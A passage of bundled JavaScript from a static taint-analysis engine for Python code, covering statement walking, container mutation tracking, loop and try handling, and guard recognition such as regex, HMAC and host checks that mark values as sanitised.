        for (const fact2 of value.facts) {
          if (leading && fact2.tail)
            continue;
          const bit = sink ? maskOf([sink]) : ANY_GENERAL_SINK;
          const kind = (fact2.sanitised & bit) !== 0 ? "sanitised" : fact2.kind;
          if (RANK[kind] > RANK[best.kind])
            best = { kind, fact: fact2 };
        }
        const fact = best.fact;
        return { kind: best.kind, flow: fact ? flowSteps(fact.flow) : [], ...fact?.origin && best.kind !== "sanitised" ? { origin: fact.origin } : {} };
      }
      /** The function, method or class of this module a call runs, if it is one. */
      calleeOf(call) {
        const callee = call.childForFieldName("function");
        const owner = this.module.functionAt(call) ?? this.module.root;
        const { analysis } = this.analysisOf(owner, []);
        return callee && analysis ? this.localCallable(callee, { owner, chain: [], analysis }, 0)?.node : void 0;
      }
      isRequestObject(node) {
        return !!this.valueAt(node).requestObject;
      }
      /** The analysis of a function, lambda or the module, computed once (unless a cycle cut it short). */
      analysisOf(owner, chain) {
        const known = this.analyses.get(owner.id);
        if (known)
          return { analysis: known, cut: Infinity };
        const pending = this.provisional.get(owner.id);
        if (pending && chain[pending.cut] === pending.head)
          return { analysis: pending.analysis, cut: pending.cut };
        const position = chain.indexOf(owner.id);
        if (position >= 0)
          return { cut: position };
        if (chain.length >= MAX_CHAIN)
          return { cut: -1 };
        const analysis = { owner, uses: /* @__PURE__ */ new Map(), assigned: /* @__PURE__ */ new Map(), returns: CONSTANT_VALUE, dead: [], complete: true };
        const walk = { analysis, chain: [...chain, owner.id], loops: [], globals: /* @__PURE__ */ new Set(), steps: 0, nesting: 0, cut: Infinity };
        this.work.analyses++;
        try {
          this.walkOwner(owner, walk);
        } catch (error) {
          if (!(error instanceof OutOfSteps))
            throw error;
          analysis.complete = false;
        }
        if (!analysis.complete)
          analysis.returns = join3(analysis.returns, UNKNOWN_VALUE);
        if (walk.cut >= chain.length)
          this.analyses.set(owner.id, analysis);
        else if (walk.cut >= 0)
          this.provisional.set(owner.id, { analysis, cut: walk.cut, head: chain[walk.cut] });
        return { analysis, cut: walk.cut };
      }
      walkOwner(owner, walk) {
        const env = new Env();
        if (owner.type === "function_definition" || owner.type === "lambda") {
          const role = roleOf(owner);
          for (const parameter of owner.childForFieldName("parameters")?.namedChildren ?? []) {
            const name = parameterName(parameter)?.text;
            if (!name)
              continue;
            const symbol = { kind: "parameter", flow: null, sanitised: 0, tail: false, parameter: { owner, name } };
            env.set(name, role.requestObjects.has(name) ? { facts: [UNKNOWN_FACT], requestObject: "request" } : { facts: [symbol] });
          }
        }
        if (owner.type === "lambda") {
          const body2 = owner.childForFieldName("body");
          if (body2) {
            this.record(body2, env, walk);
            walk.analysis.returns = this.evaluate(body2, this.forward(walk, env), 0);
          }
          return;
        }
        const body = owner.type === "function_definition" ? owner.childForFieldName("body") : owner;
        this.execBlock(body, env, walk);
      }
      // --- statements -----------------------------------------------------------------------------------------------
      forward(walk, env) {
        return { owner: walk.analysis.owner, chain: walk.chain, walk, env };
      }
      tick(walk) {
        this.work.statements++;
        if (++walk.steps > MAX_WALK_STEPS)
          throw new OutOfSteps();
        this.module.deadline.check();
      }
      /** Runs a block from `env` (which it may change); null when no path falls through its end. */
      execBlock(block, env, walk) {
        if (!block)
          return env;
        if (walk.nesting >= MAX_NESTING) {
          walk.analysis.complete = false;
          for (const identifier of block.descendantsOfType("identifier"))
            if (env.has(identifier.text))
              env.set(identifier.text, join3(env.get(identifier.text), UNKNOWN_VALUE));
          return env;
        }
        walk.nesting++;
        try {
          let current = env;
          for (const statement of block.namedChildren) {
            if (!current) {
              if (statement.type !== "comment")
                walk.analysis.dead.push(statement);
              continue;
            }
            current = this.execStatement(statement, current, walk);
          }
          return current;
        } finally {
          walk.nesting--;
        }
      }
      execStatement(statement, env, walk) {
        this.tick(walk);
        if (!COMPOUND_STATEMENTS.has(statement.type))
          this.record(statement, env, walk);
        else
          for (const header of this.headers(statement))
            this.record(header, env, walk);
        switch (statement.type) {
          case "expression_statement": {
            for (const expression of statement.namedChildren)
              this.execExpression(expression, env, walk);
            const call = statement.firstNamedChild;
            return call?.type === "call" && EXITING_CALL.test(call.childForFieldName("function")?.text ?? "") ? null : env;
          }
          case "return_statement": {
            const value = statement.firstNamedChild;
            walk.analysis.returns = join3(walk.analysis.returns, value ? this.evaluate(value, this.forward(walk, env), 0) : literalValue(null));
            return null;
          }
          case "raise_statement":
            return null;
          case "break_statement":
            walk.loops.at(-1)?.breaks.push(env);
            return null;
          case "continue_statement":
            walk.loops.at(-1)?.continues.push(env);
            return null;
          case "if_statement":
            return this.execIf(statement, env, walk);
          case "while_statement":
          case "for_statement":
            return this.execLoop(statement, env, walk);
          case "try_statement":
            return this.execTry(statement, env, walk);
          case "with_statement": {
            for (const item of statement.descendantsOfType("with_item")) {
              const value = item.childForFieldName("value");
              if (!value)
                continue;
              if (value.type === "as_pattern") {
                const target = value.childForFieldName("alias")?.firstNamedChild;
                const expression = value.firstNamedChild;
                if (target && expression)
                  this.bindTarget(target, this.evaluate(expression, this.forward(walk, env), 0), env, walk);
              } else {
                this.execExpression(value, env, walk);
              }
            }
            return this.execBlock(statement.childForFieldName("body"), env, walk);
          }
          case "decorated_definition": {
            const definition = statement.childForFieldName("definition");
            return definition ? this.execStatement(definition, env, walk) : env;
          }
          case "function_definition":
          case "class_definition": {
            const name = statement.childForFieldName("name");
            if (name)
              this.bindName(name.text, name, { facts: [UNKNOWN_FACT], callable: statement }, env, walk, false);
            return env;
          }
          case "match_statement": {
            const subject = statement.childForFieldName("subject");
            const outs = [env];
            for (const clause of statement.childForFieldName("body")?.namedChildren ?? []) {
              if (clause.type !== "case_clause")
                continue;
              const branch = env.clone();
              const captured = subject ? dataOf(this.evaluate(subject, this.forward(walk, env), 0)) : UNKNOWN_VALUE;
              for (const pattern of clause.namedChildren.filter((child) => child.type === "case_pattern")) {
                for (const identifier of pattern.descendantsOfType("identifier"))
                  this.bindName(identifier.text, identifier, join3(captured, UNKNOWN_VALUE), branch, walk, true);
              }
              const out = this.execBlock(clause.childForFieldName("consequence"), branch, walk);
              if (out)
                outs.push(out);
            }
            return joinEnvs(outs);
          }
          case "assert_statement": {
            const condition = statement.firstNamedChild;
            if (condition)
              this.refine(env, condition, true);
            return env;
          }
          case "global_statement":
          case "nonlocal_statement":
            for (const identifier of statement.namedChildren) {
              walk.globals.add(identifier.text);
              env.delete(identifier.text);
            }
            return env;
          default:
            return env;
        }
      }
      /** An expression used as a statement: assignments, and calls that change a container or end the path. */
      execExpression(expression, env, walk) {
        const reader = this.forward(walk, env);
        switch (expression.type) {
          case "assignment": {
            const right = expression.childForFieldName("right");
            const left = expression.childForFieldName("left");
            if (!right || !left)
              return;
            let value;
            if (right.type === "assignment") {
              this.execExpression(right, env, walk);
              let innermost = right;
              for (let next = innermost.childForFieldName("right"); innermost.type === "assignment" && next; next = innermost.childForFieldName("right"))
                innermost = next;
              value = this.evaluate(innermost, reader, 0);
            } else {
              value = this.evaluate(right, reader, 0);
              this.applyEffects(right, env, walk);
            }
            this.bindTarget(left, value, env, walk);
            return;
          }
          case "augmented_assignment": {
            const left = expression.childForFieldName("left");
            const right = expression.childForFieldName("right");
            if (!left || !right)
              return;
            const operator = expression.childForFieldName("operator")?.type ?? "";
            const old = this.evaluate(left, reader, 0);
            const added = this.evaluate(right, reader, 0);
            const literal = operator === "+=" && typeof old.literal === typeof added.literal && old.literal !== void 0 && added.literal !== void 0 && typeof old.literal !== "boolean" && old.literal !== null ? old.literal + added.literal : void 0;
            const items = operator === "+=" && old.items && added.items ? [...old.items, ...added.items] : void 0;
            const value = { ...dataOf(join3(dataOf(old), dataOf(added))), ...literal !== void 0 ? { literal } : {}, ...items ? { items } : {} };
            this.bindTarget(left, value, env, walk);
            return;
          }
          default:
            if (/:=|\byield\b/.test(expression.text))
              this.evaluate(expression, reader, 0);
            this.applyEffects(expression, env, walk);
        }
      }
      /** Calls that change a local container or object: `lst.append(x)`, `lst.pop(0)`, `conf.set("s", "k", v)`, `buf.write(x)`. */
      applyEffects(expression, env, walk) {
        if (expression.type !== "call")
          return;
        this.escapeArguments(expression, env, walk);
        const callee = expression.childForFieldName("function");
        if (callee?.type !== "attribute")
          return;
        const receiver = callee.childForFieldName("object");
        const method = callee.childForFieldName("attribute")?.text ?? "";
        const key = receiver ? pathOf(receiver) : void 0;
        if (!receiver || !key || !env.has(key))
          return;
        const reader = this.forward(walk, env);
        const current = env.get(key);
        const args = argumentList(expression).map((arg) => this.evaluate(arg, reader, 0));
        const positional = argumentList(expression).filter((arg) => arg.type !== "keyword_argument").length === args.length;
        const literalArg = (index) => args[index]?.literal;
        let next;
        if (current.items && positional) {
          const items = [...current.items];
          const index = (position, length) => typeof position === "number" && Number.isInteger(position) ? position < 0 ? position + length : position : void 0;
          switch (method) {
            case "append":
              next = args.length === 1 ? { ...current, facts: join3(current, args[0]).facts, items: [...items, args[0]] } : void 0;
              break;
            case "appendleft":
              next = args.length === 1 ? { ...current, facts: join3(current, args[0]).facts, items: [args[0], ...items] } : void 0;
              break;
            case "extend":
              next = args.length === 1 && args[0].items ? { ...current, facts: join3(current, args[0]).facts, items: [...items, ...args[0].items] } : void 0;
              break;
            case "insert": {
              const at = index(literalArg(0), items.length);
              if (args.length === 2 && at !== void 0) {
                items.splice(Math.max(0, Math.min(at, items.length)), 0, args[1]);
                next = { ...current, facts: join3(current, args[1]).facts, items };
              }
              break;
            }
            case "pop":
            case "popleft": {
              const at = method === "popleft" ? 0 : args.length === 0 ? items.length - 1 : index(literalArg(0), items.length);
              if (at !== void 0 && at >= 0 && at < items.length) {
                items.splice(at, 1);
                next = { ...current, items };
              }
              break;
            }
            case "remove": {
              const wanted = literalArg(0);
              const at = items.findIndex((item) => item.literal === void 0 || item.literal === wanted);
              if (wanted !== void 0 && at >= 0 && items[at].literal === wanted) {
                items.splice(at, 1);
                next = { ...current, items };
              }
              break;
            }
            case "reverse":
              next = { ...current, items: items.reverse() };
              break;
            case "clear":
              next = { facts: [], items: [] };
              break;
            case "copy":
            case "count":
            case "index":
              return;
            default:
              break;
          }
        } else if (current.entries && positional) {
          const entries = new Map(current.entries);
          const text = (literal) => typeof literal === "string" || typeof literal === "number" ? String(literal) : void 0;
          switch (method) {
            case "set":
            case "add_section":
            case "setdefault":
            case "__setitem__": {
              if (method === "add_section") {
                const section = text(literalArg(0));
                if (section !== void 0) {
                  if (!entries.has(section))
                    entries.set(section, { facts: [], entries: /* @__PURE__ */ new Map() });
                  next = { ...current, entries };
                }
              } else if (method === "set" && args.length === 3) {
                const section = text(literalArg(0));
                const option = text(literalArg(1));
                const inner = section !== void 0 ? entries.get(section) : void 0;
                if (section !== void 0 && option !== void 0 && inner?.entries) {
                  entries.set(section, { ...inner, facts: join3(inner, args[2]).facts, entries: new Map(inner.entries).set(option, args[2]) });
                  next = { ...current, facts: join3(current, args[2]).facts, entries };
                }
              } else if (args.length === 2) {
                const name = text(literalArg(0));
                if (name !== void 0) {
                  if (method !== "setdefault" || !entries.has(name))
                    entries.set(name, args[1]);
                  next = { ...current, facts: join3(current, args[1]).facts, entries };
                }
              }
              break;
            }
            case "pop": {
              const name = text(literalArg(0));
              if (name !== void 0) {
                entries.delete(name);
                next = { ...current, entries };
              }
              break;
            }
            case "update":
              if (args.length === 1 && args[0].entries) {
                for (const [name, value] of args[0].entries)
                  entries.set(name, value);
                next = { ...current, facts: join3(current, args[0]).facts, entries };
              }
              break;
            case "clear":
              next = { facts: [], entries: /* @__PURE__ */ new Map() };
              break;
            case "get":
            case "getint":
            case "getfloat":
            case "getboolean":
            case "has_option":
            case "has_section":
            case "sections":
            case "options":
            case "items":
            case "keys":
            case "values":
            case "copy":
              return;
            default:
              break;
          }
        } else if (!WRITER_METHODS.has(method)) {
          return;
        }
        if (!next && (current.items || current.entries) && !WRITER_METHODS.has(method) && !KEEPS_CONTENTS.has(method))
          next = joinAll([UNKNOWN_VALUE, dataOf(current), ...args.map(dataOf)]);
        next ??= WRITER_METHODS.has(method) || current.items || current.entries ? { ...dataOf(joinAll([current, ...args.map(dataOf)])) } : void 0;
        if (next)
          this.mutate(key, receiver, next, env, walk);
      }
      /** A container changed in place: every name bound to the same container (`n = m`) sees the change. */
      mutate(key, target, next, env, walk) {
        const old = env.get(key);
        const containers = old ? containersOf(old) : [];
        if (containers.length > 0) {
          next = { ...next, sharing: containers };
          for (const [other, value] of env) {
            if (other === key)
              continue;
            const theirs = containersOf(value);
            if (!theirs.some((container) => containers.includes(container)))
              continue;
            const same = theirs.length === 1 && containers.length === 1;
            env.set(other, same ? next : { ...join3(value, next), sharing: [.../* @__PURE__ */ new Set([...theirs, ...containers])] });
          }
        }
        this.bindName(key, target, next, env, walk, true);
      }
      /** A container passed to code not followed (`fill(lst)`) may come back changed: its contents become unknown too. */
      escapeArguments(call, env, walk) {
        const containers = [];
        for (const arg of argumentList(call)) {
          const key = pathOf(arg.type === "keyword_argument" ? arg.childForFieldName("value") ?? arg : arg);
          const value = key ? env.get(key) : void 0;
          if (key && value && (value.items || value.entries))
            containers.push({ key, arg, value });
        }
        if (containers.length === 0)
          return;
        const name = this.module.callName(call) ?? "";
        const method = this.module.calleeAttribute(call) ?? "";
        if (KNOWN_CALLS.some((table) => table.has(name)) || CLEAN_CONVERSIONS.has(`.${method}`) || LOOKUPS.has(`.${method}`) || this.module.isBuiltin(name) && name !== "exec" && name !== "eval")
          return;
        if (call.childForFieldName("function")?.type === "attribute" && (WRITER_METHODS.has(method) || KEEPS_CONTENTS.has(method) || STRING_METHODS.has(method)))
          return;
        for (const { key, arg, value } of containers)
          this.mutate(key, arg, joinAll([UNKNOWN_VALUE, dataOf(value)]), env, walk);
      }
      execIf(statement, env, walk) {
        const clauses = [
          { condition: statement.childForFieldName("condition") ?? void 0, body: statement.childForFieldName("consequence") },
          ...statement.childrenForFieldName("alternative").map((clause) => clause.type === "elif_clause" ? { condition: clause.childForFieldName("condition") ?? void 0, body: clause.childForFieldName("consequence") } : { body: clause.childForFieldName("body") })
        ];
        const outs = [];
        let rest = env;
        for (const clause of clauses) {
          if (!rest) {
            if (clause.body)
              walk.analysis.dead.push(clause.body);
            continue;
          }
          if (!clause.condition) {
            const out2 = this.execBlock(clause.body, rest, walk);
            if (out2)
              outs.push(out2);
            rest = null;
            continue;
          }
          this.record(clause.condition, rest, walk);
          const truth = truthiness(this.evaluate(clause.condition, this.forward(walk, rest), 0));
          this.applyEffects(clause.condition, rest, walk);
          if (truth === false) {
            if (clause.body)
              walk.analysis.dead.push(clause.body);
            continue;
          }
          const branch = this.refine(rest.clone(), clause.condition, true);
          const out = this.execBlock(clause.body, branch, walk);
          if (out)
            outs.push(out);
          rest = truth === true ? null : this.refine(rest, clause.condition, false);
        }
        if (rest)
          outs.push(rest);
        return joinEnvs(outs);
      }
      execLoop(statement, env, walk) {
        const isWhile = statement.type === "while_statement";
        const condition = isWhile ? statement.childForFieldName("condition") : null;
        const target = isWhile ? null : statement.childForFieldName("left");
        const iterable = isWhile ? null : statement.childForFieldName("right");
        const body = statement.childForFieldName("body");
        const otherwise = statement.childForFieldName("alternative");
        let element = CONSTANT_VALUE;
        if (iterable) {
          element = elementOf(this.evaluate(iterable, this.forward(walk, env), 0));
        }
        let head = env;
        let always = false;
        const breaks = [];
        for (let pass = 0; ; pass++) {
          let entry = head.clone();
          if (condition) {
            this.record(condition, entry, walk);
            const truth = truthiness(this.evaluate(condition, this.forward(walk, entry), 0));
            if (truth === false) {
              if (body && pass === 0)
                walk.analysis.dead.push(body);
              entry = null;
            } else {
              always = truth === true;
              entry = this.refine(entry, condition, true);
            }
          }
          if (!entry)
            break;
          if (target)
            this.bindTarget(target, element, entry, walk);
          const exits = { breaks: [], continues: [] };
          walk.loops.push(exits);
          let out;
          try {
            out = this.execBlock(body, entry, walk);
          } finally {
            walk.loops.pop();
          }
          breaks.push(...exits.breaks);
          const next = joinEnvs([head, ...out ? [out] : [], ...exits.continues]);
          if (sameEnv(next, head))
            break;
          head = next;
          if (pass + 1 >= MAX_LOOP_PASSES) {
            walk.analysis.complete = false;
            break;
          }
        }
        let exit = always ? head.clone() : condition ? this.refine(head.clone(), condition, false) : head.clone();
        if (exit && otherwise)
          exit = this.execBlock(otherwise, exit, walk);
        return joinEnvs([...exit ? [exit] : [], ...breaks]);
      }
      execTry(statement, env, walk) {
        const before = env.clone();
        const body = statement.childForFieldName("body");
        let out = this.execBlock(body, env, walk);
        const handlerEntry = before.clone();
        if (body) {
          for (const [name, value] of this.boundIn(body, walk))
            handlerEntry.set(name, handlerEntry.has(name) ? join3(handlerEntry.get(name), value) : value);
        }
        const outs = [];
        let everyHandlerExits = true;
        let handlers = 0;
        for (const clause of statement.namedChildren) {
          if (clause.type !== "except_clause" && clause.type !== "except_group_clause")
            continue;
          handlers++;
          const branch = handlerEntry.clone();
          const alias = clause.descendantsOfType("as_pattern_target")[0]?.firstNamedChild;
          if (alias?.type === "identifier")
            this.bindName(alias.text, alias, UNKNOWN_VALUE, branch, walk, true);
          const block2 = clause.namedChildren.filter((child) => child.type === "block").at(-1);
          const handled = this.execBlock(block2, branch, walk);
          if (handled) {
            outs.push(handled);
            everyHandlerExits = false;
          }
        }
        const otherwise = statement.namedChildren.find((child) => child.type === "else_clause");
        if (out && handlers > 0 && everyHandlerExits && body)
          out = this.refineValidatedCasts(body, out);
        if (out && otherwise)
          out = this.execBlock(otherwise.childForFieldName("body"), out, walk);
        if (out)
          outs.push(out);
        const merged = joinEnvs(outs);
        const cleanup = statement.namedChildren.find((child) => child.type === "finally_clause");
        if (!cleanup)
          return merged;
        const block = cleanup.namedChildren.find((child) => child.type === "block");
        const after = this.execBlock(block, merged ?? handlerEntry.clone(), walk);
        return merged ? after : null;
      }
      /** The names a block bound, with every value each took (for handlers that start part-way through it). */
      boundIn(block, walk) {
        const bound = /* @__PURE__ */ new Map();
        const scope = this.module.scopeFor(walk.analysis.owner);
        for (const [name, bindings] of scope.bindings) {
          for (const binding of bindings) {
            if (!contains2(block, binding.target))
              continue;
            const value = walk.analysis.assigned.get(binding.target.id);
            if (value)
              bound.set(name, bound.has(name) ? join3(bound.get(name), value) : value);
          }
        }
        return bound;
      }
      /** `try: int(x) except ValueError: return`: after the statement, x is known to be a number. */
      refineValidatedCasts(body, env) {
        for (const statement of body.namedChildren) {
          const expression = statement.type === "expression_statement" ? statement.firstNamedChild : null;
          const call = expression?.type === "assignment" ? expression.childForFieldName("right") : expression;
          if (call?.type !== "call" || !VALIDATING_CASTS.has(this.module.callName(call) ?? ""))
            continue;
          const subject = argumentList(call)[0];
          if (subject?.type === "identifier" && env.has(subject.text))
            env.set(subject.text, sanitise(env.get(subject.text), EVERY_SINK));
        }
        return env;
      }
      // --- bindings -------------------------------------------------------------------------------------------------
      bindTarget(target, value, env, walk) {
        if (target.type === "identifier") {
          this.bindName(target.text, target, value.facts.length > 0 ? through(value, step(target.text, target)) : value, env, walk, false);
          return;
        }
        if (SEQUENCE_PATTERNS.has(target.type)) {
          const items = target.namedChildren;
          const exact = value.items && value.items.length === items.length && !items.some((item) => item.type === "list_splat_pattern");
          items.forEach((item, index) => this.bindTarget(item.type === "list_splat_pattern" ? item.firstNamedChild ?? item : item, exact ? value.items[index] : elementOf(value), env, walk));
          return;
        }
        if (target.type === "parenthesized_expression" && target.firstNamedChild) {
          this.bindTarget(target.firstNamedChild, value, env, walk);
          return;
        }
        if (target.type === "attribute") {
          const path = pathOf(target);
          if (path)
            this.bindName(path, target, through(value, step(path, target)), env, walk, false);
          return;
        }
        if (target.type === "subscript") {
          const container = target.childForFieldName("value");
          const key = target.childForFieldName("subscript");
          const path = container ? pathOf(container) : void 0;
          if (!container || !path || !key)
            return;
          const reader = this.forward(walk, env);
          const current = this.evaluate(container, reader, 0);
          const index = this.evaluate(key, reader, 0).literal;
          let next;
          if (current.entries && (typeof index === "string" || typeof index === "number")) {
            next = { ...current, facts: join3(current, value).facts, entries: new Map(current.entries).set(String(index), value) };
          } else if (current.items && typeof index === "number" && Number.isInteger(index) && Math.abs(index) <= current.items.length - (index < 0 ? 0 : 1)) {
            const items = [...current.items];
            items[index < 0 ? index + items.length : index] = value;
            next = { ...current, facts: joinAll(items).facts, items };
          } else {
            next = dataOf(join3(dataOf(current), dataOf(value)));
          }
          if (env.has(path) || this.isLocal(path, walk))
            this.mutate(path, container, next, env, walk);
        }
      }
      /** `name` (or `obj.attr`) now holds `value`; assigning a name forgets what was known of its attributes. */
      bindName(name, target, value, env, walk, update) {
        if (!update && !name.includes(".")) {
          const prefix = `${name}.`;
          if (env.hasPaths) {
            for (const key of env.keys())
              if (key.startsWith(prefix))
                env.delete(key);
          }
        }
        env.set(name, value);
        if (!update) {
          const old = walk.analysis.assigned.get(target.id);
          walk.analysis.assigned.set(target.id, old ? join3(old, value) : value);
        }
      }
      isLocal(path, walk) {
        const name = path.split(".")[0];
        return this.module.scopeFor(walk.analysis.owner).bindings.has(name) && !walk.globals.has(name);
      }
      /** Records, for every name (and `obj.attr` path) read in `node`, the value it holds on this path. */
      record(node, env, walk) {
        const uses = walk.analysis.uses;
        const note = (id, value) => {
          const old = uses.get(id);
          uses.set(id, old && old !== value ? join3(old, value) : value);
        };
        const identifiers = node.type === "identifier" ? [node] : node.descendantsOfType("identifier");
        for (const identifier of identifiers) {
          const value = env.get(identifier.text);
          if (value)
            note(identifier.id, value);
        }
        if (!env.hasPaths)
          return;
        for (const attribute of node.descendantsOfType("attribute")) {
          const path = pathOf(attribute);
          const value = path ? env.get(path) : void 0;
          if (value)
            note(attribute.id, value);
        }
      }
      /** The parts of a compound statement evaluated before its body: decorators, defaults, bases, with items, subject. */
      headers(statement) {
        switch (statement.type) {
          case "decorated_definition":
            return statement.namedChildren.filter((child) => child.type === "decorator");
          case "function_definition":
            return [statement.childForFieldName("parameters")].filter((node) => !!node);
          case "class_definition":
            return [statement.childForFieldName("superclasses")].filter((node) => !!node);
          case "with_statement":
            return statement.descendantsOfType("with_item").map((item) => item.childForFieldName("value")).filter((node) => !!node);
          case "match_statement":
            return [statement.childForFieldName("subject")].filter((node) => !!node);
          case "for_statement":
            return [statement.childForFieldName("right")].filter((node) => !!node);
          default:
            return [];
        }
      }
      // --- guards ---------------------------------------------------------------------------------------------------
      /** The state where `condition` is `positive`: names it restricts to known values are safe there. */
      refine(env, condition, positive) {
        for (const name of this.guards(condition, positive, 0)) {
          const value = env.get(name);
          if (value)
            env.set(name, sanitise(value, EVERY_SINK));
        }
        for (const name of this.hostlessChecks(condition, positive, 0)) {
          const value = env.get(name);
          if (value)
            env.set(name, sanitise(value, HOST_SINKS));
        }
        return env;
      }
      /**
       * Names a condition proves to hold no host where it is `positive`: `if parsed.netloc or parsed.scheme: url = "/"`
       * leaves a URL with an empty netloc (a path on this site), like `parsed.netloc == ""` does. Safe only where the host
       * is the danger (a redirect, a fetch): the text is still the client's for every other sink.
       */
      hostlessChecks(condition, positive, depth) {
        if (depth > 4)
          return [];
        switch (condition.type) {
          case "parenthesized_expression":
            return condition.firstNamedChild ? this.hostlessChecks(condition.firstNamedChild, positive, depth + 1) : [];
          case "not_operator": {
            const operand = condition.childForFieldName("argument") ?? condition.lastNamedChild;
            return operand ? this.hostlessChecks(operand, !positive, depth + 1) : [];
          }
          case "boolean_operator": {
            const operator = condition.childForFieldName("operator")?.type;
            return operator === "and" === positive ? condition.namedChildren.flatMap((part) => this.hostlessChecks(part, positive, depth + 1)) : [];
          }
          case "attribute": {
            if (positive || !HOST_ATTRIBUTES.has(condition.childForFieldName("attribute")?.text ?? ""))
              return [];
            const subject = this.checkedName(condition);
            return subject ? [subject] : [];
          }
          default:
            return [];
        }
      }
      /** Names a condition restricts when it is true (`positive`) or when it is false (`if not ok(x): return`). */
      guards(condition, positive, depth) {
        if (depth > 4)
          return [];
        switch (condition.type) {
          case "identifier": {
            const values = this.module.valuesOf(condition);
            return values?.length === 1 ? this.guards(values[0], positive, depth + 1) : [];
          }
          case "parenthesized_expression":
            return condition.firstNamedChild ? this.guards(condition.firstNamedChild, positive, depth + 1) : [];
          case "not_operator": {
            const operand = condition.childForFieldName("argument") ?? condition.lastNamedChild;
            return operand ? this.guards(operand, !positive, depth + 1) : [];
          }
          case "boolean_operator": {
            const operator = condition.childForFieldName("operator")?.type;
            if (operator === "and" === positive || operator === "and")
              return condition.namedChildren.flatMap((part) => this.guards(part, positive, depth + 1));
            return [];
          }
          case "comparison_operator": {
            const operators = condition.children.filter((child) => !child.isNamed).map((child) => child.type);
            const [left, right] = condition.namedChildren;
            if (operators.length !== 1 || !left || !right)
              return [];
            const operator = operators[0];
            const subject = this.checkedName(left);
            if (!subject || right.descendantsOfType("identifier").some((identifier) => identifier.text === subject))
              return [];
            if ((operator === "in" || operator === "==") && positive)
              return [subject];
            if ((operator === "not in" || operator === "!=") && !positive)
              return [subject];
            return [];
          }
          case "call": {
            if (!positive)
              return [];
            const callee = condition.childForFieldName("function");
            const method = callee?.type === "attribute" ? callee.childForFieldName("attribute")?.text ?? "" : "";
            if (callee?.type === "attribute" && GUARD_METHODS.has(method)) {
              const subject = this.checkedName(callee.childForFieldName("object"));
              return subject ? [subject] : [];
            }
            const name = callee ? this.module.qualifiedName(callee) ?? callee.text : "";
            const args = argumentList(condition).map((arg) => arg.type === "keyword_argument" ? arg.childForFieldName("value") : arg);
            if (REGEX_MATCHERS.has(name) || REGEX_METHODS.has(method) && !REGEX_MATCHERS.has(name) && callee?.type === "attribute") {
              const moduleFunction = REGEX_MATCHERS.has(name);
              const pattern = moduleFunction ? args[0] : this.compiledPattern(callee.childForFieldName("object"));
              const subject = this.checkedName(moduleFunction ? args[1] : args[0]);
              const kind = moduleFunction ? name.slice(name.lastIndexOf(".") + 1) : method;
              return subject && wholeValueMatch(kind, pattern && this.module.constant(pattern)) ? [subject] : [];
            }
            if (SIGNATURE_CHECKS.has(name))
              return args.map((arg) => this.signedName(arg, 0)).filter((subject) => !!subject);
            if (!GUARD_FUNCTION.test(name))
              return [];
            return args.map((arg) => this.checkedName(arg)).filter((subject) => !!subject);
          }
          default:
            return [];
        }
      }
      /** The literal pattern of `PATTERN.match(x)` when `PATTERN = re.compile("...")`; undefined when not known. */
      compiledPattern(receiver) {
        const compiled = receiver.type === "identifier" ? this.module.valuesOf(receiver) : [receiver];
        const call = compiled?.length === 1 ? compiled[0] : void 0;
        return call?.type === "call" && /(^|\.)compile$/.test(this.module.callName(call) ?? "") ? argumentList(call)[0] : void 0;
      }
      /** The message a MAC is computed over: `body` in `hmac.new(KEY, body, sha256).hexdigest()`, directly or via a name. */
      signedName(node, depth) {
        if (!node || depth > 4)
          return void 0;
        if (node.type === "identifier") {
          const values = this.module.valuesOf(node);
          return values?.length === 1 ? this.signedName(values[0], depth + 1) : void 0;
        }
        if (node.type !== "call")
          return void 0;
        const callee = node.childForFieldName("function");
        if (callee?.type === "attribute" && /^(hex)?digest$/.test(callee.childForFieldName("attribute")?.text ?? ""))
          return this.signedName(callee.childForFieldName("object") ?? void 0, depth + 1);
        const position = MAC_MESSAGE_POSITION[this.module.callName(node) ?? ""];
        if (position === void 0)
          return void 0;
        const args = argumentList(node);
        const message = args.find((arg) => arg.type === "keyword_argument" && arg.childForFieldName("name")?.text === "msg")?.childForFieldName("value") ?? args[position];
        return message?.type === "keyword_argument" ? void 0 : this.checkedName(message);
      }
      /** The name a check is about: `x`, `x.lower()`, `os.path.realpath(x)`, `urlparse(x).netloc`. */
      checkedName(node, depth = 0) {
        if (!node || depth > 4)
          return void 0;
        if (node.type === "identifier")
          return node.text;
        if (node.type === "attribute" && CHECK_THROUGH_ATTRIBUTES.has(node.childForFieldName("attribute")?.text ?? "")) {
          const object = node.childForFieldName("object");
          const parsed = object?.type === "identifier" ? this.module.valuesOf(object) : void 0;
          if (parsed?.length === 1 && parsed[0].type === "call" && CHECK_THROUGH_CALLS.has(this.module.callName(parsed[0]) ?? ""))
            return this.checkedName(argumentList(parsed[0])[0], depth + 1);
          return this.checkedName(object, depth + 1);
        }
        if (node.type === "call") {
          const callee = node.childForFieldName("function");
          if (callee?.type === "attribute" && STRING_METHODS.has(callee.childForFieldName("attribute")?.text ?? ""))
            return this.checkedName(callee.childForFieldName("object"), depth + 1);
          if (CHECK_THROUGH_CALLS.has(this.module.callName(node) ?? ""))
            return this.checkedName(argumentList(node)[0], depth + 1);
        }
        return void 0;
      }
      // --- expressions ----------------------------------------------------------------------------------------------
      /** What an expression may hold, read with `reader`. */
      evaluate(node, reader, depth) {
        this.work.expressions++;
        if (reader.walk && ++reader.walk.steps > MAX_WALK_STEPS)
          throw new OutOfSteps();
        if (depth > MAX_EXPRESSION_DEPTH)
          return UNKNOWN_VALUE;
        const next = depth + 1;
        switch (node.type) {
          case "string":
            if (!node.namedChildren.some((child) => child.type === "interpolation")) {
              const literal = readStringLiteral(node);
              return literalValue(literal.value);
            }
            return this.stringBuilding(node, reader, next) ?? this.allOf(interpolations(node), reader, next);
          case "concatenated_string":
            return this.stringBuilding(node, reader, next) ?? this.allOf(node.namedChildren, reader, next);
          case "binary_operator":
            return this.stringBuilding(node, reader, next) ?? this.arithmetic(node, reader, next);
          case "integer":
          case "float":
          case "true":
          case "false":
          case "none": {
            const literal = constantValue(node);
            return literal === void 0 || Array.isArray(literal) ? CONSTANT_VALUE : literalValue(literal);
          }
          case "ellipsis":
          case "slice":
            return CONSTANT_VALUE;
          case "list":
          case "tuple":
          case "expression_list": {
            const items = node.namedChildren.filter((child) => child.type !== "comment");
            const values = items.map((item) => this.evaluate(item, reader, next));
            const spread = items.some((item) => item.type === "list_splat");
            return { facts: joinAll(values).facts, ...spread ? {} : { items: values } };
          }
          case "set":
            return dataOf(this.allOf(node.namedChildren, reader, next));
          case "dictionary": {
            const entries = /* @__PURE__ */ new Map();
